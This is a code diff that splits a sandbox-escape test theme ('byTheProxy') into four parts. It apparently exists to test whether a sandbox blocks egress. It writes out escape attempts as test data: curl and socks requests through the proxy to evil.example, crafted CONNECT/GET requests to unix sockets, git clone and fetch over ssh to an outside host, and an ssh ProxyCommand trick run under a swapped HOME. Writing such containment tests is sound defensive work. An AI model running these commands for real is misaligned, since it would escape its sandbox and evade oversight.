@@ -41,8 +41,7 @@ async function withRemote(terminal: Terminal, world: World, command: string, env
 /** Words for the shim as git gives them. */
 const shim = (...words: readonly string[]): string => `/run/hermes/bin/git-ssh ${words.map((word) => `'${word}'`).join(' ')} </dev/null`;
 
-/** To get out by the ways that are there for it: the proxy, and git over ssh. */
-export const byTheProxy: EscapeTheme = ({ port, key, mark, project, home }) => ({
+const byTheProxyOne: EscapeTheme = ({ port, key }) => ({
   'a host nobody agreed to': `curl -sS -m5 -x http://${PROXY} http://evil.example/?x=1; curl -sSk -m5 -x http://${PROXY} https://evil.example/; curl -sS -m5 --socks5-hostname ${PROXY} http://evil.example/; true`,
   'the host’s loopback by the proxy': connect(
     `127.0.0.1:${port}`,
@@ -115,6 +114,9 @@ export const byTheProxy: EscapeTheme = ({ port, key, mark, project, home }) => (
     `GET unix:${key} HTTP/1.1\r\nHost: x\r\n\r\n`,
     `GET ftp://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n`,
   ),
+});
+
+const byTheProxyTwo: EscapeTheme = ({ port }) => ({
   'targets that are no hosts': connect(
     `evil.example:0`,
     `evil.example:99999`,
@@ -190,6 +192,9 @@ done`,
         `git clone git@evil.example:x/y.git; git remote set-url origin git@evil.example:x/y.git; git fetch origin; ${shim('git@evil.example', "git-upload-pack '\\''x/y.git'\\''")}`,
       ),
   },
+});
+
+const byTheProxyThree: EscapeTheme = ({ mark, project }) => ({
   'git over ssh to another repository of the same host': {
     only: 'attended',
     tries: (terminal, world) =>
@@ -260,6 +265,9 @@ done`,
       }),
     needs: '/usr/bin/ssh',
   },
+});
+
+const byTheProxyFour: EscapeTheme = ({ mark, home }) => ({
   'the owner’s settings of ssh, by another home': {
     only: 'attended',
     tries: (terminal, world) =>
@@ -269,4 +277,12 @@ done`,
         `mkdir -p h/.ssh; printf 'Host *\\n ProxyCommand touch ${mark}\\n' > h/.ssh/config; HOME=$PWD/h SSH_AUTH_SOCK=$PWD/x git fetch origin; ls ${home}/.ssh`,
       ),
   },
+});
+
+/** To get out by the ways that are there for it: the proxy, and git over ssh. */
+export const byTheProxy: EscapeTheme = (world) => ({
+  ...byTheProxyOne(world),
+  ...byTheProxyTwo(world),
+  ...byTheProxyThree(world),
+  ...byTheProxyFour(world),
 });
